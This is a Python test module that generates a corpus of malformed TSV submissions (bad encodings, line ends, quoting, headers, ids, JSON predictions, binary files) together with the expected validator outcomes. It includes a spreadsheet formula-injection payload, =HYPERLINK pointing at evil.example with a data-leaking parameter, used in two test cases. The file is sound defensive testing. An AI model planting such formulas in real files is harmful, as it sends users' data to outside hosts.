"""The hostile-file corpus: what each file in ``corpus/`` is, how it was made, and what must happen to it.

Every file is a submission for the ``validation`` split of the tests' synthetic dataset
(``tests/conftest.py``: 6 samples at 96x72, 16 expected rows), built from the straight-forward
example written the notebook's way (pandas ``to_csv(sep="\\t")``, with category, raw_response and
reasoning columns). ``make_input_corpus.py`` writes the files from ``CASES``; the files are kept,
so a change of the reader is judged against the same bytes.

Expected outcome, the same through intake validation (the service) and ``python -m scoring score``:

- ``rejected``: the file is refused; the one-line message holds this text;
- otherwise accepted, with ``invalid`` rows by reason as the scorer counts them (with ground truth).
  Intake checks without ground truth, so reasons in ``TRUTH_ONLY`` are valid rows there, and a
  file with no valid row at all is refused by intake with "no valid prediction".
"""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field

import pandas as pd

from scoring.prediction import Reason

ROWS = 16  # expected rows of the validation split of the tests' dataset
TRUTH_ONLY = (Reason.OFF_IMAGE, Reason.NO_TRUTH)  # reasons only a check with ground truth can find
NOTEBOOK_COLUMNS = ["sample_id", "embodiment", "category", "prediction", "raw_response", "reasoning"]
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'


@dataclass(frozen=True)
class Case:
    name: str
    what: str
    make: Callable[[pd.DataFrame], bytes]
    rejected: str | None = None
    invalid: dict[str, int] = field(default_factory=dict)
    warning: str | None = None


def notebook(frame: pd.DataFrame) -> bytes:
    return frame.to_csv(sep="\t", index=False).encode("utf-8")


def text(frame: pd.DataFrame) -> str:
    return notebook(frame).decode("utf-8")


def with_predictions(cells: list[str]) -> Callable[[pd.DataFrame], bytes]:
    """The base file with the first ``len(cells)`` predictions replaced."""

    def make(frame: pd.DataFrame) -> bytes:
        for index, cell in enumerate(cells):
            frame.loc[index, "prediction"] = cell
        return notebook(frame)

    return make


def with_cell(row: int, column: str, value: str) -> Callable[[pd.DataFrame], bytes]:
    def make(frame: pd.DataFrame) -> bytes:
        frame.loc[row, column] = value
        return notebook(frame)

    return make


def replaced(old: str, new: str, count: int = 1) -> Callable[[pd.DataFrame], bytes]:
    return lambda frame: text(frame).replace(old, new, count).encode("utf-8")


def header(line: str) -> Callable[[pd.DataFrame], bytes]:
    return lambda frame: (line + "\n" + text(frame).split("\n", 1)[1]).encode("utf-8")


def points(n: int, x: float = 48.0) -> str:
    return json.dumps([[x, 71.0 - 70.0 * i / max(n - 1, 1)] for i in range(n)])


def _zip(frame: pd.DataFrame) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("predictions.tsv", notebook(frame))
    return out.getvalue()


def _parquet(frame: pd.DataFrame) -> bytes:
    out = io.BytesIO()
    frame.to_parquet(out)
    return out.getvalue()


def _random_binary(frame: pd.DataFrame) -> bytes:
    import random

    return random.Random(5).randbytes(4096)


LATIN1 = "Straße über die Brücke, à gauche"
FORMULA_FILE = "every free-text column and the prediction start with =HYPERLINK(...): only the prediction matters"

CASES: list[Case] = [
    # -- encodings -------------------------------------------------------------------------------
    Case("utf8_bom.tsv", "UTF-8 with a byte-order mark (Excel's 'CSV UTF-8')", lambda f: b"\xef\xbb\xbf" + notebook(f)),
    Case(
        "utf8_double_bom.tsv",
        "two UTF-8 byte-order marks: the second is part of the first column name",
        lambda f: b"\xef\xbb\xbf\xef\xbb\xbf" + notebook(f),
        rejected='found "\\ufeffsample_id"',
    ),
    Case("utf16_bom.tsv", "UTF-16 with its BOM (Excel 'Unicode text')", lambda f: text(f).encode("utf-16"), "UTF-16"),
    Case("utf16le_no_bom.tsv", "UTF-16 LE without a BOM", lambda f: text(f).encode("utf-16-le"), "NUL bytes"),
    Case("utf16be_no_bom.tsv", "UTF-16 BE without a BOM", lambda f: text(f).encode("utf-16-be"), "NUL bytes"),
    Case("utf32_bom.tsv", "UTF-32 with its BOM", lambda f: text(f).encode("utf-32"), "UTF-32"),
    Case(
        "latin1.tsv",
        "Latin-1 accents in raw_response (row 3)",
        lambda f: with_cell(2, "raw_response", LATIN1)(f).decode().encode("latin-1"),
        "line 6: byte 0xdf at column 73",
    ),
    Case(
        "cp1252_smart_quotes.tsv",
        "Windows-1252 curly quotes in reasoning",
        lambda f: with_cell(0, "reasoning", "“left” – then ‘right’")(f).decode().encode("cp1252"),
        "is not UTF-8",
    ),
    Case(
        "shift_jis.tsv",
        "Shift-JIS Japanese in raw_response",
        lambda f: with_cell(0, "raw_response", "左に曲がってください")(f).decode().encode("shift_jis"),
        "line 2: byte 0x8d",
    ),
    Case(
        "utf8_overlong_nul.tsv",
        "an overlong UTF-8 NUL (C0 80) in reasoning",
        lambda f: notebook(f).replace(b"Example submission", b"Example\xc0\x80submission", 1),
        "byte 0xc0",
    ),
    Case(
        "utf8_surrogate.tsv",
        "a UTF-8-encoded surrogate (ED A0 80) in reasoning",
        lambda f: notebook(f).replace(b"Example submission", b"Example\xed\xa0\x80", 1),
        "byte 0xed",
    ),
    Case(
        "utf8_truncated.tsv",
        "the file ends inside a multi-byte character",
        lambda f: notebook(f) + "é".encode()[:1],
        "byte 0xc3",
    ),
    # -- line ends ------------------------------------------------------------------------------
    Case("crlf.tsv", "Windows line ends everywhere", lambda f: notebook(f).replace(b"\n", b"\r\n")),
    Case("cr_only.tsv", "classic Mac line ends (CR only)", lambda f: notebook(f).replace(b"\n", b"\r")),
    Case(
        "mixed_crlf_lf.tsv",
        "CR LF and LF alternating between rows",
        lambda f: b"".join(line + (b"\r\n", b"\n")[i % 2] for i, line in enumerate(_lines(f, without_raw=True))),
    ),
    Case(
        "lone_cr_in_cells.tsv",
        "lone CRs in raw_response, reasoning and a prediction: pandas leaves such cells unquoted",
        lambda f: notebook(
            f.assign(raw_response="progress 10%\rprogress 100%", reasoning="a\rb").assign(
                prediction=["[[48, 71],\r[48, 0]]"] + list(f["prediction"][1:])
            )
        ),
    ),
    Case(
        "cr_and_lf_line_ends.tsv",
        "CR LF, CR and LF alternating: with LF in the file a lone CR is data, so two rows run together",
        lambda f: b"".join(line + (b"\r\n", b"\r", b"\n")[i % 3] for i, line in enumerate(_lines(f, without_raw=True))),
        "line 2: 9 fields, expected 5",
    ),
    Case(
        "crlf_inside_quoted_cell.tsv",
        "CR LF inside quoted raw_response cells, LF between rows",
        lambda f: notebook(f.assign(raw_response="first line\r\nsecond\tline")),
    ),
    Case("no_final_newline.tsv", "the last row has no line end", lambda f: notebook(f).rstrip(b"\n")),
    Case(
        "blank_lines.tsv",
        "blank lines between and after the rows",
        lambda f: b"\n\n".join(_lines(f, without_raw=True)) + b"\n\n\n",
    ),
    # -- quoting --------------------------------------------------------------------------------
    Case(
        "quoted_tabs_newlines.tsv",
        "raw_response and reasoning holding tabs, newlines and quotes, quoted as pandas does",
        lambda f: notebook(f.assign(raw_response='Sure!\n\t"path":\t[[1, 2]]\n\n', reasoning="a\tb\nc \"d\" 'e'")),
    ),
    Case(
        "quoted_prediction.tsv",
        "prediction cells quoted with doubled quotes inside",
        lambda f: notebook(f).replace(b"\t[[48.0, 71], [48.0, 0]]\t", b'\t"[[48.0, 71], [48.0, 0]]"\t'),
    ),
    Case(
        "unterminated_quote.tsv",
        "a quote opened in the last row's reasoning and never closed",
        lambda f: notebook(f).rsplit(b"\tExample", 1)[0] + b'\t"Example submission\n',
        "line 32: malformed quoting: unexpected end of data",
    ),
    Case(
        "text_after_closing_quote.tsv",
        'a quoted cell followed by more text ("a"b)',
        lambda f: replaced("Example submission (straight).", '"Example" submission', 1)(f),
        "line 2: malformed quoting",
    ),
    Case(
        "unquoted_tab.tsv",
        "a tab inside an unquoted reasoning cell (hand-written TSV)",
        replaced("Example submission (straight).", "Example\tsubmission", 1),
        "line 2: 7 fields, expected 6",
    ),
    Case(
        "unquoted_newline.tsv",
        "a bare newline inside an unquoted reasoning cell",
        replaced("Example submission (straight).", "Example\nsubmission", 1),
        "line 4: 1 field, expected 6 (one per header column); is a tab missing or a text cell unquoted?",
    ),
    Case(
        "quote_inside_unquoted_prediction.tsv",
        "a quote in the middle of an unquoted prediction: kept as text, not JSON",
        with_predictions(['[[48.0, 71], "x" [48.0, 0]]']),
        invalid={Reason.NOT_JSON: 1},
    ),
    # -- headers --------------------------------------------------------------------------------
    Case(
        "header_capitalised.tsv",
        "Sample_ID / Embodiment / Prediction",
        header("Sample_ID\tEmbodiment\tCategory\tPrediction\traw_response\treasoning"),
        "missing required columns sample_id, embodiment, prediction",
    ),
    Case(
        "header_padded.tsv",
        "header names with spaces around them",
        header(" sample_id \tembodiment \tcategory\t prediction\traw_response\treasoning"),
    ),
    Case(
        "duplicate_column.tsv",
        "prediction twice in the header",
        header("sample_id\tembodiment\tcategory\tprediction\tprediction\treasoning"),
        'column "prediction" appears twice',
    ),
    Case(
        "missing_prediction_column.tsv",
        "no prediction column",
        lambda f: notebook(f.drop(columns=["prediction"])),
        "missing required column prediction",
    ),
    Case("header_only.tsv", "a header and nothing else", lambda f: notebook(f.iloc[:0]), "no rows"),
    Case("empty.tsv", "zero bytes", lambda f: b"", "empty"),
    Case("whitespace_only.tsv", "spaces, tabs and newlines", lambda f: b" \t\n\r\n \n", "empty"),
    Case(
        "comma_separated.tsv",
        "a CSV saved as .tsv",
        lambda f: f.to_csv(index=False).encode(),
        "not tab-separated",
    ),
    Case(
        "semicolon_separated.tsv",
        "European-Excel CSV (semicolons)",
        lambda f: f.to_csv(sep=";", index=False).encode(),
        "not tab-separated",
    ),
    Case(
        "pandas_index_column.tsv",
        "written with index=True: an unnamed first column",
        lambda f: f.to_csv(sep="\t").encode(),
    ),
    Case(
        "reordered_columns.tsv",
        "columns in another order, extra columns",
        lambda f: notebook(f.assign(model="x", seed=0)[["prediction", "model", "embodiment", "seed", "sample_id"]]),
    ),
    Case(
        "nul_in_header.tsv",
        "a NUL byte inside a header name",
        header("sample_id\x00\tembodiment\tcategory\tprediction\traw_response\treasoning"),
        "header holds NUL bytes",
    ),
    Case(
        "five_thousand_columns.tsv",
        "5,000 header columns, none of them required: the message lists what fits in a line",
        lambda f: ("\t".join(f"c{i}" for i in range(5000)) + "\n" + "\t".join("x" * 5000) + "\n").encode(),
        '"c18" and 4981 more; expected at least sample_id',
    ),
    # -- row keys -------------------------------------------------------------------------------
    Case(
        "unknown_sample_id.tsv",
        "a sample id the split does not have",
        with_cell(3, "sample_id", "val_9999"),
        'line 8 (sample_id "val_9999"), column "sample_id": unknown sample_id',
    ),
    Case(
        "test_ids_for_validation.tsv",
        "ids of the test split in a validation file",
        lambda f: notebook(f.assign(sample_id=f["sample_id"].str.replace("val_", "test_"))),
        "not in the validation split",
    ),
    Case(
        "zero_width_space_in_id.tsv",
        "a zero-width space after a sample id (invisible in editors, shown escaped)",
        with_cell(0, "sample_id", "val_0000\u200b"),
        'sample_id "val_0000\\u200b"',
    ),
    Case(
        "newline_in_sample_id.tsv",
        "a quoted newline inside a sample id: the message stays one line",
        with_cell(1, "sample_id", "val_\n0000"),
        'line 4 (sample_id "val_\\n0000")',
    ),
    Case(
        "nul_in_sample_id.tsv",
        "a NUL byte inside a sample id",
        with_cell(0, "sample_id", "val_\x000000"),
        'sample_id "val_\\x000000"',
    ),
    Case(
        "long_sample_id.tsv",
        "a 100,000-character sample id: the message quotes 40",
        with_cell(0, "sample_id", "v" * 100_000),
        "(100000 characters)",
    ),
    Case(
        "formula_sample_id.tsv",
        "a sample id that is a spreadsheet formula",
        with_cell(0, "sample_id", HYPERLINK),
        'line 2 (sample_id "=HYPERLINK("http://evil.example/?leak="&…" (54 characters))',
    ),
    Case(
        "lowercase_embodiment.tsv",
        '"human" instead of "Human"',
        with_cell(0, "embodiment", "human"),
        "embodiments are Human, Legged Robot",
    ),
    Case(
        "empty_sample_id.tsv",
        "an empty sample id",
        with_cell(4, "sample_id", ""),
        'line 10, column "sample_id": empty sample_id',
    ),
    Case(
        "duplicate_row.tsv",
        "the same (sample_id, embodiment) twice",
        lambda f: notebook(pd.concat([f, f.iloc[[2]]])),
        'line 34 (sample_id "val_0000", embodiment "Wheeled Robot"): duplicate row: (sample_id, embodiment) '
        "already given on line 6",
    ),
    Case(
        "ragged_row.tsv",
        "a row with three cells",
        lambda f: notebook(f) + b"val_0000\tHuman\t[]\n",
        "3 fields, expected 6",
    ),
    # -- predictions ----------------------------------------------------------------------------
    Case(
        "prose_answers.tsv",
        "three rows answer in prose",
        with_predictions(["I cannot determine a path.", "Go left, then right.", "N/A"]),
        invalid={Reason.NOT_JSON: 3},
    ),
    Case(
        "all_prose.tsv",
        "every row answers in prose: nothing to score (intake refuses, the CLI scores 0)",
        lambda f: notebook(f.assign(prediction="Sorry, I can't help with that.")),
        invalid={Reason.NOT_JSON: ROWS},
    ),
    Case(
        "empty_lists.tsv",
        "the notebook's [] for unparsable answers",
        with_predictions(["[]", "[]"]),
        invalid={Reason.TOO_FEW: 2},
    ),
    Case(
        "empty_cells.tsv",
        "empty prediction cells",
        with_predictions(["", ""]),
        invalid={Reason.NOT_JSON: 2},
    ),
    Case(
        "non_finite.tsv",
        "NaN, Infinity, -Infinity and 1e400",
        with_predictions(
            ["[[NaN, 1], [2, 3]]", "[[1, Infinity], [2, 3]]", "[[1, 2], [-Infinity, 3]]", "[[1e400, 2], [3, 4]]"]
        ),
        invalid={Reason.NON_FINITE: 4},
    ),
    Case(
        "huge_coordinates.tsv",
        "coordinates beyond 100000 (a float, a negative, a 4000-digit integer); a 5000-digit one is not JSON",
        with_predictions(
            [
                "[[1e6, 2], [3, 4]]",
                "[[1, 2], [3, -100000.5]]",
                f"[[1{'0' * 4000}, 2], [3, 4]]",
                f"[[1{'0' * 5000}, 2], [3, 4]]",
            ]
        ),
        invalid={Reason.OUT_OF_RANGE: 3, Reason.NOT_JSON: 1},
    ),
    Case(
        "off_image.tsv",
        "valid numbers, every point outside the 96x72 image (negative and far right)",
        with_predictions(["[[-50, -10], [-20, -30]]", "[[500, 10], [900, 20]]"]),
        invalid={Reason.OFF_IMAGE: 2},
    ),
    Case(
        "nested_json.tsv",
        "points nested one level too deep, objects, a point of three numbers",
        with_predictions(
            [
                "[[[48, 71]], [[48, 0]]]",
                '[{"x": 48, "y": 71}, {"x": 48, "y": 0}]',
                "[[1, 2, 3], [4, 5, 6]]",
                '{"points": [[1, 2], [3, 4]]}',
            ]
        ),
        invalid={Reason.NOT_POINT_LIST: 4},
    ),
    Case(
        "booleans_strings_null.tsv",
        "booleans, numeric strings and null as coordinates",
        with_predictions(["[[true, false], [1, 2]]", '[["48", "71"], ["48", "0"]]', "[[null, 1], [2, 3]]"]),
        invalid={Reason.NOT_NUMBER: 3},
    ),
    Case(
        "python_literals.tsv",
        "Python tuples, single quotes, a trailing comma, a markdown fence",
        with_predictions(
            ["[(48, 71), (48, 0)]", "[['48', '71']]", "[[48, 71], [48, 0],]", "```json\n[[48, 71], [48, 0]]\n```"]
        ),
        invalid={Reason.NOT_JSON: 4},
    ),
    Case(
        "deep_nesting.tsv",
        "100,000 opening brackets",
        with_predictions(["[" * 100_000]),
        invalid={Reason.NOT_JSON: 1},
    ),
    Case(
        "point_counts.tsv",
        "one point, exactly 2000 points (valid) and 2001 points",
        with_predictions(["[[48, 71]]", points(2000), points(2001)]),
        invalid={Reason.TOO_FEW: 1, Reason.TOO_MANY: 1},
    ),
    Case(
        "normalised_coordinates.tsv",
        "coordinates in [0, 1]: valid, scored as pixels, with a warning",
        with_predictions(["[[0.5, 0.99], [0.5, 0.5]]", "[[0.5, 0.99], [0.4, 0.1]]"]),
        warning="every coordinate within [0, 1]",
    ),
    Case(
        "json_whitespace.tsv",
        "JSON with spaces, tabs and newlines around and inside it (quoted by pandas)",
        with_predictions([" [ [48, 71] ,\n\t[48, 0] ] ", "\r\n[[48,71],[48,0]]\r\n"]),
    ),
    Case(
        "nul_in_prediction.tsv",
        "a NUL byte inside a prediction",
        with_predictions(["[[48, 71],\x00 [48, 0]]"]),
        invalid={Reason.NOT_JSON: 1},
    ),
    Case(
        "formula_cells.tsv",
        FORMULA_FILE,
        lambda f: notebook(
            f.assign(category=HYPERLINK, raw_response=HYPERLINK, reasoning=HYPERLINK).assign(
                prediction=[HYPERLINK] + list(f["prediction"][1:])
            )
        ),
        invalid={Reason.NOT_JSON: 1},
    ),
    # -- not text at all ------------------------------------------------------------------------
    Case("gzip.tsv", "the file gzip-compressed, named .tsv", lambda f: gzip.compress(notebook(f)), "gzip-compressed"),
    Case("zip.tsv", "the file in a ZIP archive (an .xlsx is one too)", _zip, "a ZIP archive"),
    Case("bzip2.tsv", "the file bzip2-compressed", lambda f: bz2.compress(notebook(f)), "bzip2-compressed"),
    Case("xz.tsv", "the file xz-compressed", lambda f: lzma.compress(notebook(f)), "xz-compressed"),
    Case("parquet.tsv", "the predictions as a Parquet file", _parquet, "a Parquet file"),
    Case(
        "old_excel.tsv",
        "an OLE2 header, as an old .xls workbook starts",
        lambda f: bytes.fromhex("d0cf11e0a1b11ae1") + bytes(504),
        "an old Excel (.xls) workbook",
    ),
    Case("png.tsv", "a PNG image", lambda f: b"\x89PNG\r\n\x1a\n" + bytes(100), "a PNG image"),
    Case("random_bytes.tsv", "4 KB of random bytes", _random_binary, "is not UTF-8"),
]


def _lines(frame: pd.DataFrame, without_raw: bool = False) -> list[bytes]:
    """The base file's lines; ``without_raw`` drops the multi-line raw_response column first."""
    source = frame.drop(columns=["raw_response"]) if without_raw else frame
    return notebook(source).rstrip(b"\n").split(b"\n")
